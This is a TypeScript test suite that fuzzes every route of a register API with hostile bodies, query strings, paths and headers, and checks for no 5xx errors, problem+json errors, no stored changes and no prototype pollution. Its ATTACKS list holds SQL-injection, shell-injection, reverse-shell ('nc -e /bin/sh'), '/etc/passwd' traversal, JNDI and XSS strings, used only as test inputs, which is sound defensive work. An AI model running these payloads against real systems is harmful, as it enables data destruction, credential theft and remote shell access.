/**
 * Hostile input through the real HTTP stack (fastify inject runs the same parsers, hooks and handlers as a
 * socket): every route of the live route table gets fuzzed bodies, query strings, path parameters and headers
 * — wrong types, huge numbers, deep nesting, very long strings, invalid UTF-8, odd Unicode, __proto__ and
 * constructor keys, SQL and shell metacharacters. Property: never a 5xx; every error is problem+json with a
 * code; a malformed request changes nothing (state tables, history, keys compared before and after); no
 * prototype is polluted. A second property sends well-formed mentions whose text is hostile: never a 5xx, and
 * what is stored reads back exactly as sent (no injection, no mangling).
 * The attack strings are common practice (OWASP testing guide families: SQL injection, command injection,
 * path traversal, template injection, CSV formula injection), written from memory.
 * A third test is a fixed matrix (issue 17): every route receives NUL, a lone surrogate, out-of-range integers,
 * deep JSON, a wrong media type, bodies that are not UTF-8 (four kinds; three of them percent-encoded in the query
 * string and the path too) and a body declared in another charset, placed in the body, the query string and the path by reading the route's
 * declared parameters from /openapi.json; each input has the answer it must get (status and code), the suite
 * counts the inputs tried and refused and fails unless every one was refused as expected (a run that refused
 * nothing, or tried nothing, cannot pass), and nothing may be stored.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { createRegisterContext, resolveMention, stateSnapshot } from '../../services/register/index.ts';
import { describeEachBackend } from '../support/index.ts';
import { keyedApp, type KeyedApp } from '../services/api/support.ts';
import { liveRoutes, type LiveRoute } from './support.ts';
import { MULTIPART_UNREADABLE, NOT_UTF8, NOT_UTF8_IN_URL, hostileMatrix, type HostileCase, type OpenApiDoc } from './hostile-matrix.ts';

const RUNS_PER_ROUTE = process.env.CPREG_LONG === '1' ? 60 : 12;

const ATTACKS = [
  "'; DROP TABLE counterparty; --",
  '" OR 1=1 --',
  "1' UNION SELECT secret_hash FROM api_key --",
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '../../../../etc/passwd',
  '{{7*7}}',
  '${jndi:ldap://example.invalid/a}',
  '=HYPERLINK("http://example.invalid")',
  '<script>alert(1)</script>',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFFx',
  '\u202Egnp.exe',
  '\u200B\u200D\uFEFF',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏳️‍🌈',
  'Z̴̡̢̛a̷̧l̶g̵o̶',
  '__proto__',
  'constructor',
  'prototype',
  '%00',
  '%FF%FE',
  '1e999',
  '-0',
  'NaN',
  '99999999999999999999999',
];

const hostileString = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(1001, 10_000, 70_000).map((n) => 'Ä'.repeat(n)),
);
const hostileNumber = fc.constantFrom(1e308, -1e308, 2 ** 53 + 1, -0, 1.5, -1, 0, Number.MAX_SAFE_INTEGER, 2 ** 31);
const FIELDS = [
  'text',
  'source',
  'externalId',
  'ids',
  'items',
  'mentionIds',
  'targetId',
  'survivorId',
  'reason',
  'name',
  'decision',
  'scope',
  'label',
  'type',
  'toId',
  'identifiers',
  'country',
  'contract',
  'title',
  'kind',
  'id',
  'etag',
  '__proto__',
  'constructor',
];
const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...FIELDS), hostileString), tie('value'), { maxKeys: 5 }),
  ),
})).value;

/** Raw bodies: JSON text, or bytes that are not JSON at all. */
const hostileBody: fc.Arbitrary<{ payload: string | Buffer; contentType: string }> = fc.oneof(
  fc.dictionary(fc.constantFrom(...FIELDS), hostileValue, { maxKeys: 6 }).map((o) => ({ payload: JSON.stringify(o), contentType: 'application/json' })),
  hostileValue.map((v) => ({ payload: JSON.stringify(v) ?? 'null', contentType: 'application/json' })),
  fc.integer({ min: 100, max: 20_000 }).map((n) => ({ payload: `${'['.repeat(n)}${']'.repeat(n)}`, contentType: 'application/json' })),
  fc.integer({ min: 100, max: 20_000 }).map((n) => ({ payload: `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`, contentType: 'application/json' })),
  fc.constant({
    payload: '{"__proto__":{"polluted":1,"scope":"admin"},"constructor":{"prototype":{"polluted":1}},"source":"s","externalId":"e","text":"Polluter Ltd"}',
    contentType: 'application/json',
  }),
  fc.constant({ payload: '{"limit":1e999,"ids":[123456789012345678901234567890,-1e400],"survivorId":1e309}', contentType: 'application/json' }),
  fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => ({
    payload: Buffer.concat([Buffer.from('{"text":"'), Buffer.from([0xff, 0xfe, 0xc3, 0x28, ...bytes]), Buffer.from('"}')]),
    contentType: 'application/json',
  })),
  fc.constantFrom('{"text": "abc', '', 'null', '[]', '"str"', '{"a":1,"a":2}').map((payload) => ({ payload, contentType: 'application/json' })),
  fc
    .tuple(
      hostileString,
      fc.constantFrom('text/plain', 'application/x-ndjson', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=latin1', ''),
    )
    .map(([s, ct]) => ({ payload: s, contentType: ct })),
);

const hostileQuery = fc.dictionary(
  fc.oneof(
    fc.constantFrom('q', 'cursor', 'limit', 'source', 'externalId', 'includeRemoved', 'format', '__proto__', 'constructor[prototype]'),
    fc.string({ maxLength: 10 }),
  ),
  fc.oneof(hostileString, hostileNumber.map(String)),
  { maxKeys: 4 },
);
const hostileParam = fc.oneof(
  fc.constantFrom(
    '1',
    '999999',
    '0',
    '-1',
    '1e999',
    '0x10',
    '99999999999999999999999',
    '__proto__',
    'constructor',
    '%00',
    '%FF',
    '..%2F..%2Fetc',
    "1'%20OR%20'1'='1",
    'register',
    'history',
  ),
  fc.string({ maxLength: 20 }).map((s) => encodeURIComponent(s) || 'x'),
);
const hostileHeaders = fc.record(
  {
    'if-match': hostileString.map((s) => s.replace(/[^\t\x20-\x7e]/g, '?')),
    'idempotency-key': hostileString.map((s) => s.replace(/[^\t\x20-\x7e]/g, '?') || 'k'),
    'x-request-id': hostileString.map((s) => s.replace(/[^\t\x20-\x7e]/g, '?')),
    accept: fc.constantFrom('*/*', 'text/csv', 'application/xml', 'application/x-ndjson', ''),
  },
  { requiredKeys: [] },
);

interface OpenApi {
  paths: Record<string, Record<string, { requestBody?: { required?: boolean; content?: Record<string, { schema?: { required?: string[] } }> } }>>;
}

function fillPath(path: string, param: string): string {
  return path.replace(/:[A-Z]+/gi, param).replace(/\*$/, param);
}

function expectProblem(res: LightMyRequestResponse, what: string): void {
  expect(res.statusCode, `${what}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
  if (res.statusCode >= 400) {
    expect(res.headers['content-type'], `${what}: content type of a ${res.statusCode}`).toMatch(/^application\/problem\+json/);
    const body = res.json() as { code?: unknown; status?: unknown; type?: unknown };
    expect(typeof body.code, `${what}: problem code`).toBe('string');
    expect(body.status).toBe(res.statusCode);
    expect(String(body.type)).toMatch(/^urn:cpreg:problem:/);
  }
}

describeEachBackend('hostile input over HTTP', (t) => {
  let k: KeyedApp;
  let routes: LiveRoute[];
  let optionalInput: (route: LiveRoute) => boolean;
  let openApi: OpenApiDoc;
  beforeAll(async () => {
    const ctx = createRegisterContext(t.db());
    for (const [i, text] of ['Brightwater Kilns Ltd', 'Oakhollow Ceramics GmbH', 'Pennywhistle Looms Inc.'].entries()) {
      await resolveMention(ctx, { source: 'seed', externalId: String(i), text }, { actor: 'test:hostile' });
    }
    k = await keyedApp(t.db(), t.backend, { rateLimitPerMinute: false });
    await k.app.ready();
    routes = liveRoutes(k.app);
    const doc = (await k.app.inject({ method: 'GET', url: '/openapi.json' })).json() as OpenApi;
    openApi = doc as unknown as OpenApiDoc;
    // A change whose input is entirely optional (a job with no options, a mention action with only a
    // reason, a DELETE) is a well-formed request whatever else is wrong: fuzzed after the no-change check.
    optionalInput = (route) => {
      if (route.method === 'GET') return false;
      if (route.method === 'DELETE') return true;
      const op = doc.paths[route.path.replace(/:([A-Z]+)/gi, '{$1}')]?.[route.method.toLowerCase()];
      if (!op) return false;
      const body = op.requestBody;
      const schema = body?.content?.['application/json']?.schema;
      return !body?.required || !schema?.required || schema.required.length === 0;
    };
  });
  afterAll(async () => {
    await k?.app.close();
  });

  it('reads the live route table (every /v1 route, the open routes and the console)', () => {
    const keys = routes.map((r) => `${r.method} ${r.path}`);
    expect(keys.length).toBeGreaterThan(40);
    // A few routes named so that a broken parser fails here, not silently by fuzzing nothing.
    expect(keys).toEqual(
      expect.arrayContaining([
        'POST /v1/mentions',
        'POST /v1/counterparties/merge',
        'POST /v1/counterparties/:id/split',
        'POST /v1/history/:eventId/undo',
        'GET /healthz',
        'POST /v1/counterparties/:id/forget',
      ]),
    );
  });

  // Runs before the random fuzzing: that test's lenient routes start jobs (sweep, reresolve) that go on changing
  // the register in the background, which this test's nothing-stored check would see.
  it('matrix: NUL, lone surrogate, out-of-range integers, deep JSON, wrong media types, invalid UTF-8 and other charsets in body, query and path of every route are each refused as expected, and nothing is stored', async () => {
    const count = async (table: 'history_event' | 'api_key' | 'job' | 'idempotency_record' | 'mention'): Promise<number> =>
      Number(
        (
          await t
            .db()
            .selectFrom(table)
            .select((eb) => eb.fn.countAll<number>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    const tables = ['history_event', 'api_key', 'job', 'idempotency_record', 'mention'] as const;
    const before = { state: await stateSnapshot(t.db()), counts: await Promise.all(tables.map(count)) };
    const cases: HostileCase[] = hostileMatrix(routes, openApi);
    const tried: Record<string, number> = {};
    const refused: Record<string, number> = {};
    const wrong: string[] = [];
    for (const [i, c] of cases.entries()) {
      // Bodies go with an Idempotency-Key: the body hash once overflowed the stack on deep JSON.
      const body =
        c.payload === undefined
          ? {}
          : { payload: c.payload, headers: { 'content-type': c.contentType ?? 'application/json', 'idempotency-key': `matrix-${i}` } };
      const res = await k.call('admin', { method: c.method as 'GET', url: c.url, ...body });
      tried[c.kind] = (tried[c.kind] ?? 0) + 1;
      const what = `${c.label}: ${res.statusCode} ${res.body.slice(0, 200)}`;
      expectProblem(res, what);
      const answer = res.statusCode >= 400 ? (res.json() as { code: string; byteOffset?: number; errors?: { pointer: string; in?: string }[] }) : undefined;
      const ok =
        answer !== undefined &&
        (c.expect.status === undefined || res.statusCode === c.expect.status) &&
        (c.expect.codes === undefined || c.expect.codes.includes(answer.code)) &&
        (c.expect.pointer === undefined ||
          (answer.errors ?? []).some((e) => e.pointer === c.expect.pointer && (c.expect.in === undefined || (e.in ?? 'body') === c.expect.in))) &&
        (c.expect.byteOffset === undefined || answer.byteOffset === c.expect.byteOffset);
      if (ok) refused[c.kind] = (refused[c.kind] ?? 0) + 1;
      else wrong.push(what);
    }
    const total = (r: Record<string, number>) => Object.values(r).reduce((a, b) => a + b, 0);
    console.log(
      `hostile matrix [${t.backend}]: ${routes.length} routes, ${total(tried)} inputs tried, ${total(refused)} refused as expected; by kind tried ${JSON.stringify(tried)} refused ${JSON.stringify(refused)}`,
    );
    expect(wrong).toEqual([]);
    // Every route got a query-string NUL and surrogate; every route with a body got each body input; every path
    // parameter and declared integer got its input: far more than the route count, and every one refused.
    expect(total(tried)).toBe(cases.length);
    expect(cases.length).toBeGreaterThan(routes.length * 5);
    expect(total(refused)).toBe(total(tried));
    expect(tried['query NUL']).toBe(routes.length);
    expect(tried['query surrogate']).toBe(routes.length);
    // 0xFF, an overlong form and a truncated sequence, percent-encoded, in the query of every route and in every path
    // parameter (the path NUL count is the number of path parameters).
    for (const [name] of NOT_UTF8_IN_URL) {
      expect(tried[`query not UTF-8 (${name})`], name).toBe(routes.length);
      expect(tried[`path not UTF-8 (${name})`], name).toBe(tried['path NUL']);
    }
    const withBody = routes.filter((r) => r.method !== 'GET').length;
    const notUtf8Kinds = NOT_UTF8.map(([name]) => `body not UTF-8 (${name})`);
    for (const kind of [
      'body NUL',
      'body surrogate',
      'body out-of-range integer',
      'body deep JSON',
      'body wrong media type',
      'body charset latin1',
      'body charset twice',
      ...notUtf8Kinds,
      ...MULTIPART_UNREADABLE.map(([name]) => `body multipart ${name}`),
      'body multipart form field',
    ])
      expect(tried[kind], kind).toBe(withBody);
    expect(tried['path NUL']).toBeGreaterThan(15);
    expect(tried['path out-of-range integer']).toBeGreaterThan(15);
    expect(tried['query out-of-range integer']).toBeGreaterThan(5);
    expect(tried['path integer spelled otherwise']).toBeGreaterThan(15 * 6);
    expect(tried['query integer spelled otherwise']).toBeGreaterThan(5 * 6);
    expect(tried['query date-time out of range']).toBeGreaterThanOrEqual(2 * 3);
    // Nothing was stored, and the service still answers.
    expect(await stateSnapshot(t.db())).toEqual(before.state);
    expect(await Promise.all(tables.map(count))).toEqual(before.counts);
    expect((await k.call('read', { method: 'GET', url: '/v1/me' })).statusCode).toBe(200);
    expect((await k.app.inject({ method: 'GET', url: '/healthz' })).statusCode).toBe(200);
  }, 300_000);

  it('property: malformed input on every route is never a 5xx, always problem+json, and changes nothing', async () => {
    const before = { state: await stateSnapshot(t.db()), events: await count('history_event'), keys: await count('api_key') };
    async function count(table: 'history_event' | 'api_key' | 'job'): Promise<number> {
      return Number(
        (
          await t
            .db()
            .selectFrom(table)
            .select((eb) => eb.fn.countAll<number>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    }
    let requests = 0;
    let refused = 0;
    const accepted: string[] = [];
    const fuzzRoutes = async (list: LiveRoute[], record: boolean) => {
      for (const route of list) {
        await fc.assert(
          fc.asyncProperty(
            hostileBody,
            hostileQuery,
            hostileParam,
            hostileHeaders,
            fc.constantFrom('admin', 'write', 'read', 'garbage', 'none'),
            async (body, query, param, headers, who) => {
              const url = fillPath(route.path, param);
              const auth: Record<string, string> =
                who === 'none' ? {} : who === 'garbage' ? { authorization: "Bearer 'OR1=1--" } : { authorization: `Bearer ${k.keys[who]}` };
              const options: InjectOptions = {
                method: route.method as 'GET',
                url,
                query: query as Record<string, string>,
                headers: { ...headers, ...auth, ...(route.method === 'GET' || route.method === 'DELETE' ? {} : { 'content-type': body.contentType }) },
                ...(route.method === 'GET' ? {} : { payload: body.payload }),
              };
              const res = await k.app.inject(options);
              requests++;
              if (res.statusCode >= 400) refused++;
              const what = `${route.method} ${url} (${who}) body ${String(body.payload).slice(0, 120)}`;
              expectProblem(res, what);
              if (record && route.method !== 'GET' && res.statusCode < 300 && !route.path.startsWith('/console')) accepted.push(`${what} → ${res.statusCode}`);
            },
          ),
          { numRuns: RUNS_PER_ROUTE, seed: 20261202, endOnFailure: true },
        );
      }
    };
    const strict = routes.filter((r) => !optionalInput(r));
    const lenient = routes.filter((r) => optionalInput(r));
    expect(strict.length).toBeGreaterThan(20);
    await fuzzRoutes(strict, true);
    expect(requests).toBe(strict.length * RUNS_PER_ROUTE);
    const strictRefused = refused;
    // No malformed change was accepted, and nothing changed.
    expect(accepted).toEqual([]);
    expect(await count('history_event')).toBe(before.events);
    expect(await count('api_key')).toBe(before.keys);
    expect(await stateSnapshot(t.db())).toEqual(before.state);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).scope).toBeUndefined();
    // Routes whose input is all optional: never a 5xx, always problem+json (they may legitimately change things).
    await fuzzRoutes(lenient, false);
    expect(requests).toBe(routes.length * RUNS_PER_ROUTE);
    // Counted, so that a run whose inputs were all refused for one trivial reason, or never sent, cannot pass
    // unnoticed: most random hostile inputs must be refused (a GET may answer 200 to a harmless query).
    console.log(
      `hostile fuzz [${t.backend}]: ${requests} requests over ${routes.length} routes, ${refused} refused (4xx), ${requests - refused} answered 2xx/3xx; strict routes ${strictRefused} of ${strict.length * RUNS_PER_ROUTE} refused`,
    );
    expect(refused).toBeGreaterThan(requests / 2);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  }, 300_000);

  it('property: well-formed mentions with hostile text never 5xx, and read back exactly as sent', async () => {
    let n = 0;
    let accepted = 0;
    let unstorableSent = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.constantFrom(...ATTACKS),
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
          fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
        ),
        async (text) => {
          const externalId = `h-${n++}`;
          const res = await k.call('write', { method: 'POST', url: '/v1/mentions', payload: { source: 'fuzz', externalId, text } });
          expectProblem(res, `POST /v1/mentions text ${JSON.stringify(text)}`);
          const storable = !text.includes('\u0000') && (text as string & { isWellFormed(): boolean }).isWellFormed();
          if (!storable) unstorableSent++;
          if (res.statusCode >= 400) {
            expect([400, 422], `${JSON.stringify(text)} → ${res.body}`).toContain(res.statusCode);
            return;
          }
          accepted++;
          const { mentionId } = res.json() as { mentionId: number };
          const read = await k.call('read', { method: 'GET', url: `/v1/mentions/${mentionId}` });
          expect(read.statusCode).toBe(200);
          // Surrounding white space (String.prototype.trim's set, U+FEFF included) is trimmed by design; nothing else changes.
          if ((text as string & { isWellFormed(): boolean }).isWellFormed()) expect([text, text.trim()]).toContain((read.json() as { text: string }).text);
          const search = await k.call('read', { method: 'GET', url: '/v1/counterparties', query: { q: text.slice(0, 200) } });
          expectProblem(search, `search ${JSON.stringify(text)}`);
        },
      ),
      { numRuns: process.env.CPREG_LONG === '1' ? 1000 : 150, seed: 7, endOnFailure: true },
    );
    // Counted, so that a run that refused everything (and so read nothing back) cannot pass: every text that can
    // be stored (no NUL, no lone surrogate) must have been accepted and read back; a blank text may be refused (422).
    console.log(`hostile text [${t.backend}]: ${n} mentions sent, ${accepted} accepted and read back, ${unstorableSent} held unstorable text`);
    expect(n).toBeGreaterThan(100);
    expect(accepted).toBeGreaterThan((n - unstorableSent) * 0.9);
  }, 300_000);
});
